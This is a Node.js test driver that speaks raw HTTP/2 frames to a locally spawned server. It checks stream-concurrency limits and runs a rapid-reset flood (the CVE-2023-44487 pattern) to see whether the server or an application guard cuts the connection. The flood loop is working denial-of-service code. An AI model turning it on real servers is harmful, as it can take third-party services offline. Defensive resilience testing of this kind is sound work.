// Gate 3 driver (Node): node loadtest/spike/gate3-drive.mjs <runtime binary> [streams]
// Speaks raw HTTP/2 frames, so it can break the rules a well-behaved client library enforces on itself.
// 1. concurrency: opens 1 000 streams that stay open (HEADERS without END_STREAM) on one connection
//    whose server advertised maxConcurrentStreams 100; at most 100 may reach the handler.
// 2. rapid reset (CVE-2023-44487 shape): HEADERS + RST_STREAM(CANCEL) pairs, `streams` of them, as fast
//    as the socket takes them; the server should cut the connection off (GOAWAY) long before the end.
//    Then again with the server's own guard on (gate3-server.mjs: the application counts the streams each
//    session opens and sends GOAWAY itself), to see whether the application can enforce a limit.
import { spawn } from 'node:child_process';
import { connect } from 'node:tls';
import { createInterface } from 'node:readline';
import { makePki } from './pki.mjs';

const [runtime, streamsArg] = process.argv.slice(2);
const floodStreams = Number(streamsArg ?? 100_000);
const pki = makePki();

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(streamId, 5);
  return Buffer.concat([h, payload]);
}
const authority = Buffer.from('localhost');
// HPACK: :method GET (2), :scheme https (7), :path / (4) indexed; :authority literal without indexing.
const block = (path) => {
  const p = Buffer.from(path);
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x04, p.length]), p, Buffer.from([0x01, authority.length]), authority]);
};
const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, GOAWAY = 7;

async function startServer(guard = false) {
  const child = spawn(runtime, [new URL('./gate3-server.mjs', import.meta.url).pathname, JSON.stringify({ ...pki.server, guard })], { stdio: ['ignore', 'pipe', 'inherit'] });
  const lines = createInterface({ input: child.stdout });
  const port = await new Promise((resolve) => lines.once('line', (l) => resolve(JSON.parse(l).port)));
  const stop = () =>
    new Promise((resolve) => {
      lines.once('line', (l) => resolve(JSON.parse(l)));
      child.kill('SIGTERM');
    });
  return { port, stop };
}

/** Opens a raw h2 connection; returns helpers and a record of what the server sent. */
function open(port) {
  return new Promise((resolve, reject) => {
    const seen = { settings: {}, goaway: null, rstStreams: 0, rstCodes: {}, headers: 0, closed: false };
    const socket = connect({ host: '127.0.0.1', port, ca: pki.ca, servername: 'localhost', ALPNProtocols: ['h2'] }, () => {
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]));
      resolve({ socket, seen });
    });
    let buf = Buffer.alloc(0);
    socket.on('data', (chunk) => {
      buf = Buffer.concat([buf, chunk]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3], flags = buf[4], payload = buf.subarray(9, 9 + len);
        if (type === SETTINGS && !(flags & 1)) {
          for (let i = 0; i + 6 <= payload.length; i += 6) seen.settings[payload.readUInt16BE(i)] = payload.readUInt32BE(i + 2);
          socket.write(frame(SETTINGS, 1, 0));
        } else if (type === GOAWAY) seen.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, code: payload.readUInt32BE(4) };
        else if (type === RST_STREAM) {
          seen.rstStreams++;
          const code = payload.readUInt32BE(0);
          seen.rstCodes[code] = (seen.rstCodes[code] ?? 0) + 1;
        } else if (type === HEADERS) seen.headers++;
        buf = buf.subarray(9 + len);
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => (seen.closed = true));
    socket.once('error', reject);
  });
}
const settle = (ms) => new Promise((r) => setTimeout(r, ms));

async function concurrency() {
  const server = await startServer();
  const { socket, seen } = await open(server.port);
  await settle(300);
  const frames = [];
  for (let i = 0; i < 1000; i++) frames.push(frame(HEADERS, 0x4 /* END_HEADERS, stream stays open */, 1 + 2 * i, block('/watch')));
  socket.write(Buffer.concat(frames));
  // Bounded wait for the server to have answered every stream it refused.
  for (let t = 0; t < 50 && seen.rstStreams + 100 < 1000 && !seen.goaway && !seen.closed; t++) await settle(100);
  const stats = await server.stop();
  socket.destroy();
  return { advertisedMaxConcurrentStreams: seen.settings[3] ?? null, opened: 1000, reachedHandler: stats.streams, peakOpenInHandler: stats.peakOpen, refused: seen.rstStreams, rstCodes: seen.rstCodes, goaway: seen.goaway, server: stats };
}

async function rapidReset(guard) {
  const server = await startServer(guard);
  const { socket, seen } = await open(server.port);
  await settle(300);
  const t0 = Date.now();
  let sent = 0;
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(8); // CANCEL
  while (sent < floodStreams && !seen.closed && !seen.goaway) {
    const batch = [];
    for (let i = 0; i < 500 && sent < floodStreams; i++, sent++) {
      const id = 1 + 2 * sent;
      batch.push(frame(HEADERS, 0x5, id, block('/quick')), frame(RST_STREAM, 0, id, rst));
    }
    if (!socket.write(Buffer.concat(batch))) {
      await new Promise((r) => {
        const done = () => (socket.off('drain', done).off('close', done), r());
        socket.on('drain', done).on('close', done);
      });
    }
  }
  await settle(500);
  const closedByServer = seen.closed;
  const stats = await server.stop();
  socket.destroy();
  return { guard, pairsSent: sent, of: floodStreams, ms: Date.now() - t0, goaway: seen.goaway, closedByServer, reachedHandler: stats.streams, serverCpuMs: stats.cpuMs, server: stats };
}

process.stdout.write(JSON.stringify({ runtime, concurrency: await concurrency(), rapidReset: await rapidReset(false), rapidResetWithAppGuard: await rapidReset(true) }, null, 2) + '\n');
process.exit(0);
